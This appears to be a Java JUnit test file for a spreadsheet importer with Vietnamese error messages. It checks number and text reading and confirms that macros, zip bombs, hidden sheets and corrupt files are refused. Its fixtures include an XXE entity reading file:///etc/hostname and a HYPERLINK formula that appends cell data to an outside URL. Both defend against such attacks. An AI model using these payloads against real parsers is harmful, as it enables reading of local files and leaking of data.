package vn.thidua.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import vn.thidua.refusal.Refused;
import vn.thidua.spreadsheet.SheetCell.Kind;

class SpreadsheetFileTest {

    @ParameterizedTest(name = "{0} stored with format {1} reads as {2}")
    @CsvSource(
            delimiter = '|',
            value = {
                "92.4               | General    | NUMBER | 92,4",
                "1234567            | #,##0      | NUMBER | 1234567",
                "0.924              | 0.0%       | NUMBER | 92,4%",
                "0.3000000000000004 | General    | NUMBER | 0,3",
                "-5                 | General    | NUMBER | -5",
                "0                  | General    | NUMBER | 0",
                "123456789012       | General    | NUMBER | 123456789012",
                "45291              | dd/mm/yyyy | DATE   | 2023-12-31"
            })
    void readsNumbersAsOfficersTypeThem(double stored, String format, Kind kind, String text) {
        var file = read(Xlsx.of(workbook -> {
            var cell = workbook.createSheet("Số liệu").createRow(6).createCell(1);
            cell.setCellValue(stored);
            cell.setCellStyle(style(workbook, format));
        }));

        assertThat(file.visible().cells()).singleElement().satisfies(cell -> {
            assertThat(cell.address()).isEqualTo("B7");
            assertThat(cell.kind()).isEqualTo(kind);
            assertThat(cell.text()).isEqualTo(text);
        });
    }

    @Test
    void readsTextInOneUnicodeFormAndLeavesBlankCellsOut() {
        var sheet = sheet(read(Xlsx.of(workbook -> {
            var row = workbook.createSheet("Số liệu").createRow(0);
            row.createCell(0).setCellValue("A\u0301nh  ");
            row.createCell(1).setCellValue("   ");
            row.createCell(2).setCellValue(true);
            row.createCell(3).setCellValue(LocalDate.of(2023, 12, 31));
        })));

        assertThat(sheet.text(1, 1)).isEqualTo("\u00C1nh");
        assertThat(sheet.rows().get(1)).doesNotContainKey(2);
        assertThat(sheet.text(1, 3)).isEqualTo("TRUE");
        assertThat(sheet.lastColumn()).isEqualTo(4);
        assertThat(sheet.lastRow()).isEqualTo(1);
    }

    @Test
    void neitherComputesNorRepeatsAFormula() {
        var sheet = sheet(read(Xlsx.of(workbook -> {
            var cell = workbook.createSheet("Số liệu").createRow(0).createCell(0);
            cell.setCellFormula("HYPERLINK(\"http://example.org/\"&A2,\"x\")");
        })));

        assertThat(sheet.cells()).singleElement().satisfies(cell -> {
            assertThat(cell.kind()).isEqualTo(Kind.FORMULA);
            assertThat(cell.text()).isEqualTo("(công thức)");
        });
    }

    @Test
    void refusesNumbersNobodySees() {
        var file = read(Xlsx.of(workbook -> {
            workbook.createSheet("Số liệu");
            workbook.createSheet("Nháp");
            workbook.setSheetVisibility(1, SheetVisibility.VERY_HIDDEN);
        }));

        assertRefused(file::visible, "trang tính bị ẩn (Nháp)");
    }

    @Test
    void refusesAnOldOrLockedWorkbook() {
        assertRefusedFile(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0}, "khóa bằng mật khẩu");
    }

    @Test
    void refusesWhatIsNoWorkbook() throws IOException {
        assertRefusedFile("a,b\n".getBytes(StandardCharsets.UTF_8), "không phải bảng tính");
        assertRefusedFile(new byte[0], "không phải bảng tính");
        assertRefusedFile(zip("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), "OpenDocument");
        assertRefusedFile(zip("word/document.xml", "<a/>"), "không phải bảng tính");
    }

    @Test
    void refusesMacrosByContentWhateverTheFileIsCalled() {
        var types = Xlsx.rewritten(
                plain(),
                (name, part) -> name.equals("[Content_Types].xml")
                        ? new String(part, StandardCharsets.UTF_8)
                                .replace(
                                        SpreadsheetFile.MEDIA_TYPE + ".main",
                                        "application/vnd.ms-excel.sheet.macroEnabled.main")
                                .getBytes(StandardCharsets.UTF_8)
                        : part);

        assertRefusedFile(types, "có macro");
    }

    @Test
    void refusesABombBeforeUnpackingItIntoMemory() {
        var bomb = Xlsx.rewritten(plain(), (name, part) -> name.contains("sheet1") ? new byte[80 << 20] : part);

        assertThat(bomb.length).isLessThan(200_000);
        assertRefusedFile(bomb, "quá lớn khi giải nén");
    }

    @Test
    void fetchesNothingFromOutside() {
        var outside = Xlsx.rewritten(
                plain(),
                (name, part) -> name.contains("sheet1")
                        ? "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><worksheet><sheetData/>&x;</worksheet>"
                                .getBytes(StandardCharsets.UTF_8)
                        : part);

        assertRefusedFile(outside, "bị hỏng");
    }

    @Test
    void refusesABrokenFileInOneSentence() {
        var content = plain();
        for (var length : new int[] {10, content.length / 3, content.length / 2, content.length - 30}) {
            assertRefusedFile(Arrays.copyOf(content, length), "");
        }
        var absurd = sheetOf("<c r=\"A1\"><v>1E+999999999</v></c>");
        assertRefusedFile(absurd, "bị hỏng");
    }

    @ParameterizedTest
    @CsvSource({"A60000", "ZZ1"})
    void refusesASheetThatIsTooLarge(String place) {
        assertRefusedFile(sheetOf("<c r=\"%s\"><v>1</v></c>".formatted(place)), "vượt quá 50000 dòng, 200 cột");
    }

    private static byte[] sheetOf(String cells) {
        return Xlsx.rewritten(
                plain(),
                (name, part) -> name.contains("sheet1")
                        ? ("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row>"
                                        + cells + "</row></sheetData></worksheet>")
                                .getBytes(StandardCharsets.UTF_8)
                        : part);
    }

    private static byte[] plain() {
        return Xlsx.of(workbook ->
                workbook.createSheet("Số liệu").createRow(0).createCell(0).setCellValue("a"));
    }

    private static byte[] zip(String name, String text) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    private static CellStyle style(XSSFWorkbook workbook, String format) {
        var style = workbook.createCellStyle();
        style.setDataFormat(workbook.createDataFormat().getFormat(format));
        return style;
    }

    private static Sheet sheet(SpreadsheetFile file) {
        return file.visible();
    }

    private static SpreadsheetFile read(byte[] content) {
        return SpreadsheetFile.read("so-lieu.xlsx", content);
    }

    private static void assertRefusedFile(byte[] content, String reason) {
        assertRefused(() -> read(content), reason);
    }

    private static void assertRefused(ThrowingCallable call, String reason) {
        assertThatThrownBy(call).isInstanceOf(Refused.class).hasMessageContaining(reason);
    }
}
